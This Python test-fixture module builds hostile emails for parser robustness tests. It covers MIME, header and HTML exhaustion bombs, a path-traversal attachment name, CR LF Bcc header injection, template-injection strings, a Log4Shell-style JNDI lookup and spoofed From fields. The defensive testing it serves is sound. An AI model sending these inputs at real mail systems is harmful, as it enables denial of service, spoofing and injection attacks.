"""Hostile mails, made on the spot and never stored. In: nothing. Out: name -> bytes, for the tests of every room.

Each is what somebody could send to a support address: to exhaust, to confuse, to inject or to pretend.
"""

from __future__ import annotations

import base64
from collections.abc import Callable, Iterator

HEAD = b"From: Eva <eva@customer.example>\r\nTo: support@vendor.example\r\nDate: Tue, 03 Nov 2026 09:12:00 -0300\r\n"
END = b"\r\n\r\n"


def plain(body: bytes, *, head: bytes = b"Subject: hello", kind: bytes = b"text/plain; charset=utf-8") -> bytes:
    return HEAD + head + b"\r\nMIME-Version: 1.0\r\nContent-Type: " + kind + END + body


def nested(depth: int = 20_000) -> bytes:
    """Multiparts inside multiparts."""
    out = [HEAD, b"Subject: nested\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b0\r\n\r\n"]
    out += [b"--b%d\r\nContent-Type: multipart/mixed; boundary=b%d\r\n\r\n" % (n, n + 1) for n in range(depth)]
    out.append(b"--b%d\r\nContent-Type: text/plain\r\n\r\ninside\r\n" % depth)
    out += [b"--b%d--\r\n" % n for n in range(depth, -1, -1)]
    return b"".join(out)


def nested_mails(depth: int = 5_000) -> bytes:
    return (
        HEAD
        + b"Subject: mail in mail\r\n"
        + b"Content-Type: message/rfc822\r\n\r\n" * depth
        + b"Subject: inmost\r\n\r\nend"
    )


def many_parts(count: int = 50_000) -> bytes:
    part = b"--x\r\nContent-Type: text/plain\r\n\r\none\r\n"
    return HEAD + b"Subject: parts\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n" + part * count + b"--x--\r\n"


def many_attachments(count: int = 20_000) -> bytes:
    part = b'--x\r\nContent-Disposition: attachment; filename="a.txt"\r\n\r\none\r\n'
    return HEAD + b"Subject: files\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n" + part * count + b"--x--\r\n"


def large_attachment(size: int = 40_000_000) -> bytes:
    line = base64.b64encode(b"A" * 57) + b"\r\n"
    return (
        HEAD
        + b"Subject: large\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n\r\nsee file\r\n--x\r\n"
        + b"Content-Type: application/zip\r\nContent-Transfer-Encoding: base64\r\n"
        + b'Content-Disposition: attachment; filename="big.zip"\r\n\r\n'
        + line * (size // len(line))
        + b"\r\n--x--\r\n"
    )


def large_text(size: int = 20_000_000) -> bytes:
    return plain(b"a line of some length that says nothing at all\r\n" * (size // 48))


def large_base64_text(size: int = 20_000_000) -> bytes:
    line = base64.b64encode(b"x" * 57) + b"\r\n"
    return (
        HEAD
        + b"Subject: t\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + line * (size // len(line))
    )


def long_header(size: int = 5_000_000) -> bytes:
    return plain(b"short", head=b"X-Long: " + b"a" * size + b"\r\nSubject: after")


def folded_header(lines: int = 100_000) -> bytes:
    return plain(b"short", head=b"Subject: a" + b"\r\n b" * lines)


def many_headers(count: int = 200_000) -> bytes:
    return plain(b"short", head=b"".join(b"X-%d: v\r\n" % n for n in range(count)) + b"Subject: after")


def many_recipients(count: int = 50_000) -> bytes:
    return plain(
        b"hi", head=b"Subject: all\r\nCc: " + b",\r\n ".join(b"u%d <u%d@x.example>" % (n, n) for n in range(count))
    )


def long_subject_of_words(count: int = 20_000) -> bytes:
    return plain(b"hi", head=b"Subject: " + b"\r\n ".join([b"=?utf-8?q?a=C3=A9?="] * count))


def markup_deep(depth: int = 100_000) -> bytes:
    return plain(b"<div>" * depth + b"text" + b"</div>" * depth, kind=b"text/html; charset=utf-8")


def markup_attributes(count: int = 50_000) -> bytes:
    return plain(b"<p " + b" ".join(b"a%d=1" % n for n in range(count)) + b">text</p>", kind=b"text/html")


def markup_open(text: bytes) -> bytes:
    return plain(text, kind=b"text/html; charset=utf-8")


def blank_boundary() -> bytes:
    return HEAD + b'Content-Type: multipart/mixed; boundary=""\r\n\r\n--\r\n\r\ntext\r\n----\r\n'


def same_boundary(depth: int = 3_000) -> bytes:
    part = b"--x\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n"
    return HEAD + b"Content-Type: multipart/mixed; boundary=x\r\n\r\n" + part * depth + b"--x\r\n\r\ntext\r\n--x--\r\n"


def prefix_boundaries(depth: int = 200) -> bytes:
    out = [HEAD, b"Content-Type: multipart/mixed; boundary=a\r\n\r\n"]
    out += [
        b"--" + b"a" * n + b"\r\nContent-Type: multipart/mixed; boundary=" + b"a" * (n + 1) + b"\r\n\r\n"
        for n in range(1, depth)
    ]
    return b"".join(out) + b"--" + b"a" * depth + b"\r\n\r\ntext\r\n"


def cases() -> dict[str, Callable[[], bytes]]:
    """All of them, by name. Those that are large are made only when called."""
    found: dict[str, Callable[[], bytes]] = {
        "nested 20,000 deep": nested,
        "mails in mails": nested_mails,
        "50,000 parts": many_parts,
        "20,000 attachments": many_attachments,
        "40 MB of base64": large_attachment,
        "20 MB of text": large_text,
        "20 MB of text in base64": large_base64_text,
        "5 MB header": long_header,
        "header of 100,000 lines": folded_header,
        "200,000 headers": many_headers,
        "50,000 recipients": many_recipients,
        "20,000 encoded words": long_subject_of_words,
        "HTML 100,000 deep": markup_deep,
        "HTML 50,000 attributes": markup_attributes,
        "blank boundary": blank_boundary,
        "the same boundary again": same_boundary,
        "boundaries that begin alike": prefix_boundaries,
    }
    found.update({name: (lambda raw=raw: raw) for name, raw in _small()})  # type: ignore[misc]
    return found


def _small() -> Iterator[tuple[str, bytes]]:
    yield "nothing", b""
    yield "one byte", b"\x00"
    yield "only line ends", b"\r\n" * 100_000
    yield "only NULs", b"\x00" * 100_000
    yield "no header", b"just text\r\nand more"
    yield "NULs everywhere", plain(b"a\x00b\x00c" * 1000, head=b"Subject: a\x00b\r\nX-Nul\x00: 1")
    yield "bare CR", (HEAD + b"Subject: cr\r\n\r\n").replace(b"\r\n", b"\r") + b"one\rtwo\rthree"
    yield "bare LF", (HEAD + b"Subject: lf\r\n\r\n").replace(b"\r\n", b"\n") + b"one\ntwo"
    yield "mixed line ends", HEAD + b"Subject: mixed\n\r\none\rtwo\nthree\r\n.\r\nfour"
    for name in (
        b"undefined",
        b"base64",
        b"idna",
        b"punycode",
        b"unicode_escape",
        b"rot13",
        b"utf-16",
        b"no-such",
        b"utf-7",
        b"hex",
        b"zlib",
        b"../../x",
    ):
        yield f"charset {name.decode()}", plain("ação ".encode() * 3000, kind=b"text/plain; charset=" + name)
    yield "lone surrogates in UTF-7", plain(b"+3y8- +2A- \xff", kind=b"text/plain; charset=utf-7")
    yield "latin-1 that says utf-8", plain("configuração ".encode("latin-1") * 50)
    yield "utf-8 that says latin-1", plain("configuração ".encode() * 50, kind=b"text/plain; charset=iso-8859-1")
    yield "subject in 8 bits", plain(b"hi", head="Subject: Erro crítico".encode("latin-1"))
    yield "line of 1 MB", plain(b"a" * 1_000_000)
    yield "words in a line of 1 MB", plain(b"abc def " * 125_000)
    yield "100,000 quote marks", plain(b">" * 100_000)
    yield "100,000 quoted lines", plain(b"> \r\n" * 100_000)
    yield "growing quote marks", plain(b"\r\n".join(b">" * n for n in range(1400)))
    yield "Re: 50,000 times", plain(b"hi", head=b"Subject: " + b"Re: " * 50_000)
    yield "Re: 50,000 times in the text", plain(b"Re: " * 50_000)
    yield "On ... On ... On", plain(b"On " * 100_000 + b"\r\n" + b"On \r\n" * 30_000)
    yield "20,000 attributions", plain(b"On Mon, Oct 26, 2026 at 4:12 PM Greg Shaw wrote:\r\n" * 20_000)
    yield "header blocks", plain(b"De: a@b.example\r\nPara: c@d.example\r\nAssunto: x\r\n" * 15_000)
    yield "dashes", plain(b"-" * 500_000 + b"\r\n" + b"-- \r\n" * 50_000)
    for mark in (b"!", b"?", b".", b"?!", "…".encode()):
        yield f"150,000 times {mark.decode()}", plain(mark * (150_000 // len(mark)) + b"x")
    yield (
        "a log",
        plain(
            b"".join(
                b"2026-11-03 14:20:%02d,1 ERROR [p-%d] c.d.Foo - HTTP 504 a@b.example\r\n" % (n % 60, n)
                for n in range(30_000)
            )
        ),
    )
    yield "20,000 commands", plain(b"/merge 1\r\n/close\r\n" * 10_000)
    yield "a name of 30,000 letters", plain(b"x").replace(b"Eva", b"a" * 30_000)
    yield "a From without an end", plain(b"x").replace(b"Eva <eva@customer.example>", b'"' + b"a" * 1_000_000)
    yield "newlines", plain(b"\r\n" * 200_000)
    yield "blanks", plain(b" " * 1_000_000)
    yield "blanks between words", plain(b"ontem na segunda" + b" " * 15_000 + b"feira" + b"\t" * 15_000 + b"3 de")
    yield "broken base64", HEAD + b"Content-Transfer-Encoding: base64\r\n\r\n" + b"=A=B=C=\xff\x00" * 20_000
    yield (
        "broken quoted-printable",
        HEAD + b"Content-Transfer-Encoding: quoted-printable\r\n\r\n" + b"=ZZ=\r\n=" * 50_000,
    )
    yield "unclosed quotes in Content-Type", plain(b"x", kind=b'multipart/mixed; boundary="' + b'\\"' * 5000)
    yield "semicolons in Content-Type", plain(b"x", kind=b"text/plain" + b"; a=b" * 6000)
    yield (
        "RFC 2231 pieces",
        plain(b"x", head=b"Content-Disposition: attachment" + b"".join(b"; filename*%d*=a" % n for n in range(2000))),
    )
    yield "file name with a path", plain(b"x", head=b'Content-Disposition: attachment; filename="../../etc/passwd"')
    yield "file name with a NUL", plain(b"x", head=b'Content-Disposition: attachment; filename="a\x00.exe\r\n .txt"')
    yield "year 0", plain(b"x", head=b"Date: Mon, 01 Jan 0000 00:00:00 +0000")
    yield "year 99999999", plain(b"x").replace(b"2026", b"9" * 5000)
    yield "zone of 99 hours", plain(b"x").replace(b"-0300", b"+9999")
    yield "zone of 42 hours", plain(b"x").replace(b"-0300", b"+4200")
    yield "first year with an offset", plain(b"x").replace(b"03 Nov 2026 09:12:00 -0300", b"01 Jan 1900 00:00:00 +1400")
    yield "last year with an offset", plain(b"x").replace(b"03 Nov 2026 09:12:00 -0300", b"31 Dec 9999 23:59:59 -1200")
    yield "CR LF in an encoded word", plain(b"x", head=b"Subject: =?utf-8?q?a=0D=0ABcc:_all@x.example?=")
    yield "CR LF in an encoded From", plain(b"x").replace(b"Eva", b"=?utf-8?q?a=0D=0ABcc:_b@x.example?=")
    yield (
        "template syntax",
        plain(b"{{ 7 * 7 }} {% for x in range(10**9) %} ${jndi:ldap://x} <%= 1 %>", head=b"Subject: {{ config }}"),
    )
    yield "two From fields", b"From: boss@vendor.example\r\n" + plain(b"x")
    yield (
        "two addresses in From",
        plain(b"x").replace(b"eva@customer.example>", b"eva@customer.example>, boss@vendor.example"),
    )
    yield "an address as the name", plain(b"x").replace(b"Eva", b'"support@vendor.example"')
    yield "an encoded address as the name", plain(b"x").replace(b"Eva", b"=?utf-8?q?boss=40vendor.example?=")
    yield "a broken encoded word in From", plain(b"x").replace(b"Eva", b"=?utf-8?b?a?=")
    yield "comment bomb in From", plain(b"x").replace(b"Eva", b"(" * 10_000)
    yield "angle bomb in From", plain(b"x").replace(b"Eva", b"<" * 10_000)
    yield "group bomb in To", plain(b"x", head=b"Cc: " + b"a:b;" * 5000)
    yield (
        "references by the thousand",
        plain(b"x", head=b"References: " + b" ".join(b"<%d@x>" % n for n in range(3000))),
    )
    yield "forged reference", plain(b"x", head=b"In-Reply-To: <1@vendor.example>\r\nSubject: Re: [#1] hello")
    yield "HTML comments", markup_open(b"<!--" * 50_000)
    yield "HTML open tags", markup_open(b"<a " * 100_000)
    yield "HTML tables", markup_open(b"<table><tr><td>" * 20_000 + b"x")
    yield "HTML quotes", markup_open(b"<blockquote>" * 1_400 + b"x")
    yield "HTML entities", markup_open(b"&amp;" * 100_000 + b"&#xD800;&#1114112;&#0;")
    yield "HTML unclosed attribute", markup_open(b'<a href="' + b"x" * 500_000)
    yield "HTML of 200,000 lines", markup_open(b"<pre>" + b"a  \n" * 200_000 + b"</pre>")
    yield "HTML of 100,000 rules", markup_open(b"<hr>" * 100_000 + b"x")
    yield "HTML list of 20,000", markup_open(b"<ol start=2147483648>" + b"<li>x" * 20_000)
    yield "HTML lists", markup_open(b"<ul><li>" * 1_400 + b"x")
    yield "HTML list numbers", markup_open(b'<ol start="99999999999999999999"><li value="-5">x</ol>')
    yield "HTML styles", markup_open(b'<p style="' + b"display:" * 1_500 + b'">x</p>')
    yield (
        "a report about itself",
        HEAD
        + b"Content-Type: multipart/report; report-type=delivery-status; boundary=x\r\n\r\n"
        + (
            b"--x\r\nContent-Type: message/delivery-status\r\n\r\n"
            + b"Final-Recipient: rfc822; a@b.example\r\nAction: failed\r\n\r\n" * 5_000
        ),
    )
